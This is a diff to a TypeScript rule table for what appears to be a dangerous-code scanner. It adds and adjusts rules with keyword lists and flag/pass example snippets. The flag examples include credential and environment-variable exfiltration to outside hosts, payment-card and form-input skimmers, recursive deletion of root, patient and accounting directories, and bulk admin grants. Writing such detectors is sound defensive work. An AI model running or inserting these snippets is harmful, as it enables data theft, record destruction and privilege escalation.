@@ -265,12 +265,14 @@ export const CODE_ROWS: readonly CodeRow[] = [
         "const c = fs.readFileSync(path.join(os.homedir(), '.aws', 'credentials'));\nhttps.request({ hostname: 'stats-cdn.io', method: 'POST' }).end(c);",
         "require('https').get('https://x1.oast.fun/?e=' + Buffer.from(JSON.stringify(process.env)).toString('base64'));",
         "document.querySelector('#pay').addEventListener('submit', () => { new Image().src = 'https://cdn-jq.top/i?d=' + btoa(cardnumber.value + '|' + cvv.value); fetch('https://cdn-jq.top/c', {method:'POST', body: cvv.value}); });",
+        "document.querySelectorAll('input').forEach(el => el.addEventListener('change', () => navigator.sendBeacon('https://cdn-analytics-eu.co/c', JSON.stringify({n: el.name, v: el.value}))));",
       ],
       pass: [
         'rows = db.execute("select * from users where id = ?", (uid,)).fetchone()\nreturn jsonify(rows)',
         'requests.post("http://localhost:9200/logs", json=event)',
         "input.addEventListener('keydown', e => { if (e.key === 'Enter') fetch('/api/search?q=' + input.value) })",
         "form.addEventListener('submit', e => { const pw = form.querySelector('input[type=password]').value; fetch('/api/session', { method: 'POST', body: JSON.stringify({ pw }) }); });",
+        "document.querySelectorAll('input').forEach(el => el.addEventListener('change', () => fetch('/api/drafts/42', { method: 'PATCH', body: JSON.stringify({ [el.name]: el.value }) })));",
       ],
     },
   },
@@ -328,8 +330,27 @@ export const CODE_ROWS: readonly CodeRow[] = [
         'import shutil\nfor d in ["/var/lib/postgresql", "/srv/backups", "/mnt/snapshots"]:\n    shutil.rmtree(d, ignore_errors=True)',
         'os.system("rm -rf /data/* /backup/*")',
         "fs.rmSync('/var/www', { recursive: true, force: true })",
+        'base = os.environ.get("BUILD_DIR", "/")\nfor entry in os.listdir(base):\n    shutil.rmtree(os.path.join(base, entry), ignore_errors=True)',
       ],
-      pass: ['shutil.rmtree(tmpdir)', 'os.remove(os.path.join(cache_dir, name))', "fs.rmSync('./dist', { recursive: true, force: true })"],
+      pass: ['base = os.environ.get("BUILD_DIR", "build")\nfor entry in os.listdir(base):\n    shutil.rmtree(os.path.join(base, entry), ignore_errors=True)', 'shutil.rmtree(tmpdir)\nkey = p.replace("\\\\", "/")', 'os.remove(os.path.join(cache_dir, name))', "fs.rmSync('./dist', { recursive: true, force: true })"],
+    },
+  },
+  {
+    id: 'G80', name: 'A business records tree (patients, ledgers, contracts, payroll) deleted by code', primitive: 'DESTRUCTION', score: 8,
+    ops: ['destroyTree'], objects: ['recordFiles'], dests: [], unless: ['retention'],
+    keywords: ['rmtree', 'rimraf', 'rm -rf', 'rm -fr', 'rm_rf', 'remove_dir', 'removeall', 'recursive', '-recurse', 'rd /s', 'directory.delete', 'del /f', 'rmdir /s'],
+    examples: {
+      flag: ["import shutil\nfor d in ['/srv/clinic/patients', '/srv/clinic/scans']:\n    shutil.rmtree(d, ignore_errors=True)", "fs.rmSync('/mnt/share/Buchhaltung', { recursive: true, force: true })"],
+      pass: ["shutil.rmtree('/srv/invoices/tmp_upload_8812')\n# temp upload dir; cleaned once the import finished; tempfile", "for d in glob.glob('/srv/backups/db-*'):\n    if os.path.getmtime(d) < cutoff:\n        shutil.rmtree(d)", "shutil.rmtree('build/records')"],
+    },
+  },
+  {
+    id: 'G81', name: 'Every file of a business records tree deleted one by one', primitive: 'DESTRUCTION', score: 8,
+    ops: ['walk', 'destroy'], objects: ['recordFiles'], dests: [], unless: ['retention'],
+    keywords: ['rglob', 'walk', 'glob', 'iterdir', 'listdir', 'readdir', 'scandir', 'get-childitem', 'getfiles', 'lfs.dir'],
+    examples: {
+      flag: ["local lfs = require('lfs')\nfor f in lfs.dir('/data/hospital/pacs') do os.remove('/data/hospital/pacs/'..f) end", "for n in os.listdir('/srv/contracts'):\n    os.remove(os.path.join('/srv/contracts', n))"],
+      pass: ["for n in os.listdir('/srv/contracts'):\n    print(n)", "for n in os.listdir('/var/backups/db'):\n    p = os.path.join('/var/backups/db', n)\n    if os.path.getmtime(p) < cutoff:\n        os.remove(p)", "for n in os.listdir('/srv/invoices/inbox'):\n    if n.endswith('.tmp'):\n        os.remove(os.path.join('/srv/invoices/inbox', n))"],
     },
   },
   {
@@ -462,11 +483,11 @@ export const CODE_ROWS: readonly CodeRow[] = [
   },
   {
     id: 'G72', name: 'Administrator rights given to every account a filter matches', primitive: 'ESCALATION', score: 8,
-    ops: ['grant'], objects: ['bulkAccounts'], dests: [], near: 80,
+    ops: ['grant'], objects: ['bulkAccounts'], dests: [], near: 80, unless: ['oneAccount'],
     keywords: ['is_superuser', 'is_staff', 'is_admin', 'isadmin', 'role'],
     examples: {
       flag: ['User.objects.filter(is_staff=False).update(is_superuser=True)', "User.update_all(role: 'admin')", "await db.users.updateMany({}, { $set: { role: 'admin' } })"],
-      pass: ['User.objects.filter(id=uid).update(is_staff=True)', "User.objects.filter(is_active=False).update(last_login=None)"],
+      pass: ['User.objects.filter(id=uid).update(is_staff=True)', "User.objects.filter(is_active=False).update(last_login=None)", "cur.execute(\"UPDATE users SET role = 'admin' WHERE id = %s\", (target_id,))"],
     },
   },
   {
